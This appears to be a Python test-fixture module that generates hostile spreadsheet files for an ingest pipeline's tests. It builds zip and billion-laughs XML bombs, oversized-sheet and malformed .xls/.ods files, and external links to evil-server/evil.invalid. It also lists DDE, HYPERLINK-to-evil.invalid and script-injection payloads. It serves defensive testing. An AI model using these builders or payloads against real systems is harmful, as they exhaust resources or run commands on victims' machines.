"""Build hostile files into a folder: bombs, oversized sheets, external links, hostile text.

Every builder starts from bytes made in code — one of our forms filled with openpyxl
(:func:`forms_helpers.returned_form`), a minimal OpenDocument spreadsheet or a minimal BIFF8
``.xls`` in a compound file written here — and changes it the way an attacker (or a broken
program) would. :func:`build` makes the whole corpus and says what ingest must answer for each
file: the outcome and the issue code.
"""
from __future__ import annotations

import re
import struct
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from forms_helpers import LAPAS, cell, plan, returned_form

from kinerja_pipeline.rules import Rules


@dataclass(frozen=True)
class Case:
    """One hostile file and what ingest must answer for it."""

    name: str
    outcome: str                 # accepted / rejected / unrecognised
    code: str | None = None      # the issue code that explains it (None: no particular code)
    about: str = ""


# --------------------------------------------------------------------------- zip helpers


def rewrite_zip(source: Path, target: Path, change: Callable[[str, bytes], tuple[str, bytes] | None],
                extra: dict[str, bytes] | None = None) -> Path:
    """Copy the zip ``source`` to ``target`` passing each part through ``change(name, data)``,
    which returns the new (name, data) or None to drop the part; ``extra`` parts are added."""
    target.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            out = change(info.filename, zin.read(info))
            if out is not None:
                zout.writestr(out[0], out[1])
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return target


def replace_in_parts(source: Path, target: Path, replacements: dict[bytes, bytes]) -> Path:
    def change(name: str, data: bytes) -> tuple[str, bytes]:
        for old, new in replacements.items():
            data = data.replace(old, new)
        return name, data
    return rewrite_zip(source, target, change)


SHEET = "xl/worksheets/sheet1.xml"   # the data sheet of our forms (the first sheet)


def _compressed_span(data: bytes, part: str) -> tuple[zipfile.ZipInfo, int]:
    """(the part's directory entry, where its compressed bytes start in ``data``)."""
    import io
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(part)
    name_len, extra_len = struct.unpack_from("<HH", data, info.header_offset + 26)
    return info, info.header_offset + 30 + name_len + extra_len


def bad_crc(good: Path, path: Path, part: str = SHEET) -> Path:
    """``good`` with the CRC of ``part`` wrong in both of its headers (the bytes are intact)."""
    data = good.read_bytes()
    info, _ = _compressed_span(data, part)
    old, new = struct.pack("<I", info.CRC), struct.pack("<I", info.CRC ^ 0x5A5A)
    assert data.count(old) == 2, "the CRC also occurs elsewhere in the file"
    path.write_bytes(data.replace(old, new))
    return path


def broken_deflate(good: Path, path: Path, part: str = SHEET) -> Path:
    """``good`` with 8 bytes in the middle of ``part``'s deflate stream overwritten."""
    data = bytearray(good.read_bytes())
    info, start = _compressed_span(bytes(data), part)
    middle = start + info.compress_size // 2
    data[middle:middle + 8] = b"\xff" * 8
    path.write_bytes(bytes(data))
    return path


def zip_bomb(path: Path, megabytes: int = 210) -> Path:
    """A zip whose one XML entry inflates to ``megabytes`` MB of zeros (~200 KB on disk)."""
    zero = bytes(1 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxml'
                                           'formats.org/package/2006/content-types"/>')
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            for _ in range(megabytes):
                fh.write(zero)
    return path


BILLION_LAUGHS = ('<!DOCTYPE workbook [<!ENTITY lol "lol">'
                  + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
                  + "]>")


def xml_bomb(good: Path, path: Path, part: str = "xl/workbook.xml") -> Path:
    """``good`` with a billion-laughs DTD in ``part``."""
    def change(name: str, data: bytes) -> tuple[str, bytes]:
        if name == part:
            text = data.decode("utf-8")
            root = re.search(r"<(?![?!])[\w:]+", text)  # the root element's start tag
            assert root is not None
            data = (text[:root.start()] + BILLION_LAUGHS + root.group(0) + ' x="&lol9;"'
                    + text[root.end():]).encode("utf-8")
        return name, data
    return rewrite_zip(good, path, change)


def far_cell(good: Path, path: Path) -> Path:
    """A data sheet claiming 1,048,576 rows: ``<dimension ref="A1:XFD1048576">`` and a real cell there."""
    def change(name: str, data: bytes) -> tuple[str, bytes]:
        if name == SHEET:
            data = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>', data)
            data = data.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x'
                                b"</t></is></c></row></sheetData>")
        return name, data
    return rewrite_zip(good, path, change)


def disguised_far_cell(good: Path, path: Path) -> Path:
    """The far cell again, hidden from a naive scan: the sheet part renamed ``xl/data.bin``,
    attributes in single quotes with spaces around ``=``, and a ``>`` inside an attribute."""
    def change(name: str, data: bytes) -> tuple[str, bytes]:
        if name == SHEET:
            name = "xl/data.bin"
            data = data.replace(b"</sheetData>", b"<row r = '60000'><c x='>' r = 'ZZ60000' t='inlineStr'><is>"
                                b"<t>x</t></is></c></row></sheetData>")
        elif name == "xl/_rels/workbook.xml.rels":
            data = data.replace(b"worksheets/sheet1.xml", b"data.bin")
        elif name == "[Content_Types].xml":
            data = data.replace(b"/xl/worksheets/sheet1.xml", b"/xl/data.bin")
        return name, data
    return rewrite_zip(good, path, change)


def counted_rows(good: Path, path: Path, rows: int = 6000) -> Path:
    """Rows and cells without ``r``: the reader counts them, so the last cell lands on row 6,000+."""
    filler = b"<row><c><v>1</v></c></row>" * rows
    return replace_in_parts(good, path, {b"</sheetData>": filler + b"</sheetData>"})


def shared_string_bomb(good: Path, path: Path, length: int = 40_000, uses: int = 600) -> Path:
    """One long shared string used by many cells: small on disk, gigabytes once each cell copies it."""
    import random

    rnd = random.Random(5)
    text = "".join(rnd.choice("0123456789") for _ in range(length)).encode()
    sst = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://schemas.openxmlformats'
           b'.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>' + text + b"</t></si></sst>")
    cells = b"".join(b'<row r="%d">' % r + b"".join(b'<c r="%s%d" t="s"><v>0</v></c>' % (bytes([65 + c]), r)
                                                  for c in range(20)) + b"</row>"
                     for r in range(40, 40 + uses // 20))

    def change(name: str, data: bytes) -> tuple[str, bytes] | None:
        if name == "xl/sharedStrings.xml":
            return None
        if name == SHEET:
            data = data.replace(b"</sheetData>", cells + b"</sheetData>")
        elif name == "[Content_Types].xml" and b"sharedStrings" not in data:
            data = data.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                                b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
        elif name == "xl/_rels/workbook.xml.rels" and b"sharedStrings" not in data:
            data = data.replace(b"</Relationships>", b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats'
                                b'.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
                                b"</Relationships>")
        return name, data
    return rewrite_zip(good, path, change, {"xl/sharedStrings.xml": sst})


EXTERNAL_TARGETS = {"unc": "file:///\\\\evil-server\\share\\data.xlsx", "http": "http://evil.invalid/data.xlsx"}


def external_link(good: Path, path: Path, target: str) -> Path:
    """``good`` with an external workbook link (``xl/externalLinks/externalLink1.xml``) to ``target``
    and a defined name that uses it, as Excel writes them."""
    link = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.'
            b'openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
            b'<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>5</v></cell></row></sheetData>'
            b"</sheetDataSet></externalBook></externalLink>")
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="'
            + target.replace("&", "&amp;") + '" TargetMode="External"/></Relationships>').encode()

    def change(name: str, data: bytes) -> tuple[str, bytes]:
        if name == "xl/workbook.xml":
            data = data.replace(b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rIdExt1"/>'
                                b"</externalReferences>", 1)
            if b"<definedNames>" in data:
                data = data.replace(b"<definedNames>", b'<definedNames><definedName name="Luar">[1]Sheet1!$A$1'
                                    b"</definedName>", 1)
            else:
                data = data.replace(b"</externalReferences>", b'</externalReferences><definedNames><definedName '
                                    b'name="Luar">[1]Sheet1!$A$1</definedName></definedNames>', 1)
            if b"xmlns:r=" not in data:
                data = data.replace(b"<workbook ", b'<workbook xmlns:r="http://schemas.openxmlformats.org/'
                                    b'officeDocument/2006/relationships" ', 1)
        elif name == "xl/_rels/workbook.xml.rels":
            data = data.replace(b"</Relationships>", b'<Relationship Id="rIdExt1" Type="http://schemas.openxml'
                                b'formats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/'
                                b'externalLink1.xml"/></Relationships>')
        elif name == "[Content_Types].xml":
            data = data.replace(b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType='
                                b'"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
                                b"</Types>")
        return name, data
    return rewrite_zip(good, path, change, {"xl/externalLinks/externalLink1.xml": link,
                                            "xl/externalLinks/_rels/externalLink1.xml.rels": rels})


def escaped_text(source: Path, target: Path, texts: dict[str, str]) -> Path:
    """Put ``texts`` (placeholder → text) into the sheet XML as Excel writes characters XML cannot
    hold: ``_xHHHH_`` for C0 controls, a character reference for the rest that needs one."""
    def xml_text(text: str) -> bytes:
        out = []
        for ch in text:
            if ord(ch) < 0x20 and ch not in "\t\n\r":
                out.append(f"_x{ord(ch):04X}_")
            elif ch in "<>&":
                out.append({"<": "&lt;", ">": "&gt;", "&": "&amp;"}[ch])
            else:
                out.append(ch)
        return "".join(out).encode("utf-8")
    return replace_in_parts(source, target, {k.encode(): xml_text(v) for k, v in texts.items()})


# --------------------------------------------------------------------------- OpenDocument


def ods(path: Path, table_xml: str, name: str = "Data Kinerja") -> Path:
    """A minimal OpenDocument spreadsheet whose one table holds ``table_xml`` (rows)."""
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:'
               'opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
               f'<office:spreadsheet><table:table table:name="{name}">{table_xml}</table:table>'
               "</office:spreadsheet></office:body></office:document-content>")
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
                'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        zf.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
        zf.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
    return path


ODS_CELL = '<table:table-cell office:value-type="string"><text:p>{}</text:p></table:table-cell>'
ODS_REPEATED = ('<table:table-row table:number-rows-repeated="1000000"><table:table-cell/></table:table-row>'
                '<table:table-row><table:table-cell table:number-columns-repeated="16000" office:value-type="string">'
                "<text:p>x</text:p></table:table-cell></table:table-row>")
ODS_SPACES = ('<table:table-row><table:table-cell office:value-type="string"><text:p>a<text:s text:c="4000000000"/>'
              "</text:p></table:table-cell></table:table-row>")
ODS_EMPTY_RUN = ('<table:table-row><table:table-cell table:number-columns-repeated="3000000000"/><table:table-cell/>'
                 "</table:table-row>")


# --------------------------------------------------------------------------- .xls (BIFF8 in a compound file)

ENDOFCHAIN, FREESECT, FATSECT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD


def _record(typ: int, body: bytes) -> bytes:
    return struct.pack("<HH", typ, len(body)) + body


def biff_workbook(cells: list[tuple[int, int, float]], *, strings: tuple[str, ...] = (),
                  dimensions: tuple[int, int, int, int] | None = None, sst_count: int | None = None,
                  sheet_pos: int | None = None, merges: bytes | None = None, sheet: str = "Data Kinerja") -> bytes:
    """A BIFF8 workbook stream: one sheet with NUMBER ``cells`` (row, col, value) and a LABELSST
    cell per string; the knobs write what a hostile file could claim instead of the truth."""
    bof = lambda kind: _record(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0, 0x0006))  # noqa: E731
    name = sheet.encode("latin-1")
    sst = b""
    if strings or sst_count is not None:
        body = struct.pack("<ii", len(strings), len(strings) if sst_count is None else sst_count)
        for s in strings:
            body += struct.pack("<HB", len(s), 0) + s.encode("latin-1")
        sst = _record(0x00FC, body)
    boundsheet_len = 4 + 6 + 2 + len(name)
    globals_len = len(bof(5)) + boundsheet_len + len(sst) + 4
    boundsheet = _record(0x0085, struct.pack("<IBB", globals_len if sheet_pos is None else sheet_pos, 0, 0)
                         + struct.pack("<BB", len(name), 0) + name)
    rows = [r for r, _, _ in cells] + list(range(len(strings)))
    cols = [c for _, c, _ in cells] + [0] * len(strings)
    dims = dimensions or (0, max(rows, default=0) + 1, 0, max(cols, default=0) + 1)
    sheet_records = bof(0x10) + _record(0x0200, struct.pack("<IIHHH", *dims, 0))
    for r, c, v in cells:
        sheet_records += _record(0x0203, struct.pack("<HHHd", r, c, 0, v))
    for i in range(len(strings)):
        sheet_records += _record(0x00FD, struct.pack("<HHHI", i, 1, 0, i))
    if merges is not None:
        sheet_records += _record(0x00E5, merges)
    stream = bof(5) + boundsheet + sst + _record(0x000A, b"") + sheet_records + _record(0x000A, b"")
    return stream.ljust(4096, b"\0")  # a regular (not mini) stream


def compound_file(stream: bytes, *, fat_loop: bool = False, stream_size: int | None = None) -> bytes:
    """A version-3 compound file (512-byte sectors) holding ``stream`` as "Workbook".

    ``fat_loop``: the directory's sector chain points back at itself; ``stream_size``: the size the
    directory entry claims for the stream."""
    n = (len(stream) + 511) // 512
    fat = [FATSECT, ENDOFCHAIN if not fat_loop else 1] + [2 + i + 1 for i in range(n - 1)] + [ENDOFCHAIN]
    fat += [FREESECT] * (128 - len(fat))
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x003E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, 1, 0, 4096, ENDOFCHAIN, 0, ENDOFCHAIN, 0)
    struct.pack_into("<109I", header, 76, 0, *([FREESECT] * 108))

    def entry(name: str, kind: int, start: int, size: int, child: int = FREESECT) -> bytes:
        e = bytearray(128)
        raw = name.encode("utf-16-le") + b"\0\0"
        e[0:len(raw)] = raw
        struct.pack_into("<HBB", e, 64, len(raw), kind, 1)
        struct.pack_into("<III", e, 68, FREESECT, FREESECT, child)
        struct.pack_into("<II", e, 116, start, size)
        return bytes(e)

    directory = (entry("Root Entry", 5, ENDOFCHAIN, 0, child=1)
                 + entry("Workbook", 2, 2, len(stream) if stream_size is None else stream_size) + bytes(256))
    body = struct.pack("<128I", *fat) + directory + stream.ljust(n * 512, b"\0")
    return bytes(header) + body


def xls(path: Path, **knobs) -> Path:
    container = {k: knobs.pop(k) for k in ("fat_loop", "stream_size") if k in knobs}
    path.write_bytes(compound_file(biff_workbook(**knobs), **container))
    return path


# --------------------------------------------------------------------------- injection payloads

INJECTIONS = (
    "=cmd|' /C calc'!A0",
    "@SUM(A1)",
    "+1+1",
    "-2+3",
    '=HYPERLINK("http://evil.invalid/?x=1","klik")',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\t=1+1",
    "\r=1+1",
)
LONG_TEXT = "Kendala panjang. " * 5_900  # 100,300 characters
#: The unit whose form carries :data:`LONG_TEXT` (not LAPAS, whose forms carry the other texts).
OTHER_UNIT = "LP-BANCEUY"
CONTROL_TEXT = "awal\x01\x02\x07\x08\x0b\x0c\x1b[31m\x1f tengah \u202eexe.fdp akhir"


# --------------------------------------------------------------------------- the corpus


def build(root: Path, rules: Rules) -> tuple[dict[str, Case], Path]:
    """Write every hostile file into ``root / "kiriman"``; returns the cases by file name and the folder."""
    src, out = root / "sumber", root / "kiriman"
    out.mkdir(parents=True, exist_ok=True)
    good = returned_form(rules, src / "baik.xlsx")
    p = plan(rules)
    rejected = returned_form(rules, src / "ditolak.xlsx", overrides={cell(p, "IK01", "realisasi"): "banyak"})
    cases: list[Case] = []

    def add(name: str, outcome: str, code: str | None, about: str) -> Path:
        cases.append(Case(name, outcome, code, about))
        return out / name

    zip_bomb(add("bom_zip.xlsx", "unrecognised", "berkas-berbahaya", "zip bomb, 210 MB of zeros"))
    xml_bomb(good, add("bom_xml.xlsx", "unrecognised", "berkas-berbahaya", "billion laughs in workbook.xml"))
    xml_bomb(good, add("bom_xml_sheet.xlsx", "unrecognised", "berkas-berbahaya", "billion laughs in the sheet"),
             part=SHEET)
    far_cell(good, add("sejuta_baris.xlsx", "unrecognised", "berkas-terlalu-besar",
                       "dimension A1:XFD1048576 and a real cell there"))
    disguised_far_cell(good, add("sel_jauh_tersamar.xlsx", "unrecognised", "berkas-terlalu-besar",
                                 "far cell in a renamed part, single quotes, '>' in an attribute"))
    counted_rows(good, add("baris_tanpa_nomor.xlsx", "unrecognised", "berkas-terlalu-besar",
                           "6,000 rows without r attributes"))
    shared_string_bomb(good, add("teks_berbagi.xlsx", "unrecognised", "berkas-terlalu-besar",
                                 "a 40,000-character shared string used by 600 cells"))
    replace_in_parts(good, add("kendali_mentah.xlsx", "unrecognised", "berkas-rusak",
                               "raw control characters: not well-formed XML"),
                     {b"</sheetData>": b'<row r="40"><c r="A40" t="inlineStr"><is><t>a\x01\x1b</t></is></c></row>'
                      b"</sheetData>"})
    rewrite_zip(good, add("biner.xlsb", "unrecognised", "bukan-spreadsheet", ".xlsb parts"),
                lambda n, d: (n.replace("workbook.xml", "workbook.bin") if n == "xl/workbook.xml" else n, d))
    for key, target in EXTERNAL_TARGETS.items():
        external_link(good, add(f"tautan_luar_{key}.xlsx", "accepted", None, f"external link to {target}"), target)
        external_link(rejected, add(f"tautan_luar_{key}_ditolak.xlsx", "rejected", "nilai-bukan-angka",
                                    f"external link to {target}, rejected: feedback"), target)
    ods(add("ods_berulang.ods", "unrecognised", "berkas-terlalu-besar", "repeated rows and cells"), ODS_REPEATED)
    ods(add("ods_spasi.ods", "unrecognised", "berkas-terlalu-besar", "text:s c=4,000,000,000"), ODS_SPACES)
    ods(add("ods_sel_kosong.ods", "unrecognised", "berkas-terlalu-besar", "3e9 empty cells before a cell"),
        ODS_EMPTY_RUN)
    ods(add("ods_kecil.ods", "unrecognised", "bukan-formulir", "a small clean .ods (not our form)"),
        "<table:table-row>" + ODS_CELL.format("halo") + "</table:table-row>")
    xls(add("xls_kecil.xls", "unrecognised", "bukan-formulir", "a small clean .xls (not our form)"),
        cells=[(0, 0, 1.0), (1, 1, 2.5)], strings=("halo",))
    xls(add("xls_sel_jauh.xls", "unrecognised", "berkas-terlalu-besar", "NUMBER at row 65,536"),
        cells=[(65535, 255, 1.0)])
    xls(add("xls_dimensi_terbalik.xls", "unrecognised", "berkas-berbahaya", "DIMENSIONS first > last"),
        cells=[(0, 0, 1.0)], dimensions=(100, 5, 0, 2))
    xls(add("xls_dimensi_raksasa.xls", "unrecognised", "berkas-terlalu-besar", "DIMENSIONS 4e9 × 65,535"),
        cells=[(0, 0, 1.0)], dimensions=(0, 0xFFFFFFFF, 0, 0xFFFF))
    xls(add("xls_sst.xls", "unrecognised", "berkas-berbahaya", "SST claiming 2^31 strings"),
        cells=[(0, 0, 1.0)], strings=("a",), sst_count=0x7FFFFFFF)
    xls(add("xls_posisi_sheet.xls", "unrecognised", "berkas-rusak", "sheet offset outside the stream"),
        cells=[(0, 0, 1.0)], sheet_pos=0xFFFFFF00)
    xls(add("xls_gabungan.xls", "unrecognised", "berkas-rusak", "MERGECELLS claiming 65,535 ranges"),
        cells=[(0, 0, 1.0)], merges=struct.pack("<H", 0xFFFF))
    xls(add("xls_rantai_berputar.xls", "unrecognised", "berkas-berbahaya", "directory chain loops"),
        cells=[(0, 0, 1.0)], fat_loop=True)
    xls(add("xls_ukuran_aliran.xls", "unrecognised", "berkas-berbahaya", "stream size 4 GB"),
        cells=[(0, 0, 1.0)], stream_size=0xFFFFFFF0)
    other = OTHER_UNIT
    first = plan(rules, other).rows[0].indicator.kode
    marked_long = returned_form(rules, src / "panjang.xlsx", other,
                                overrides={cell(plan(rules, other), first, "penjelasan"): "PHLONGX"})
    replace_in_parts(marked_long, add("penjelasan_panjang.xlsx", "accepted", "teks-terlalu-panjang",
                                      "a 100,000-character penjelasan (openpyxl would cut it at 32,767)"),
                     {b"PHLONGX": LONG_TEXT.encode()})
    placeholders = {f"PH{i}X": text for i, text in enumerate([CONTROL_TEXT, "Budi\x01 Santoso\u202e", "ND\x1b]0;x\x07"])}
    marked = returned_form(rules, src / "kendali.xlsx", overrides={
        cell(p, "IK03", "penjelasan"): "PH0X", "D" + str(p.signature_rows["nama"]): "PH1X",
        cell(p, "IK12", "bukti"): "PH2X"})
    escaped_text(marked, add("teks_kendali.xlsx", "accepted", None, "control characters and RTL override"),
                 placeholders)
    marked_bad = returned_form(rules, src / "kendali_ditolak.xlsx", overrides={
        cell(p, "IK01", "realisasi"): "PH0X", cell(p, "IK03", "penjelasan"): "PH1X"})
    escaped_text(marked_bad, add("teks_kendali_ditolak.xlsx", "rejected", "nilai-bukan-angka",
                                 "control characters in a rejected cell (quoted in the feedback)"), placeholders)
    return {c.name: c for c in cases}, out


__all__ = ["Case", "build", "INJECTIONS", "CONTROL_TEXT", "LONG_TEXT", "OTHER_UNIT", "LAPAS"]
